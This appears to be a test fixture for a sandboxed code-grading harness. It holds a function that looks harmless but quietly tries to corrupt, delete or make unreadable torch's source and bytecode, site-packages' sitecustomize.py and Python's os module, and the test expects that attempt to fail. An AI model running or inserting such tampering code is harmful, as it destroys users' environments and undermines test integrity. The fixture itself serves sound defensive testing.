"""Poisons byte code, site packages and torch's own files.

must: failed
"""

import importlib.util
import os
import site
import sys

import torch


def double(x):
    for path in (
        importlib.util.cache_from_source(torch.__file__),
        torch.__file__,
        os.path.join(site.getsitepackages()[0], "sitecustomize.py"),
        os.__file__,
    ):
        for act in (lambda p: open(p, "a").write("\n#"), os.unlink, lambda p: os.chmod(p, 0)):
            try:
                act(path)
            except OSError:
                pass
    return x
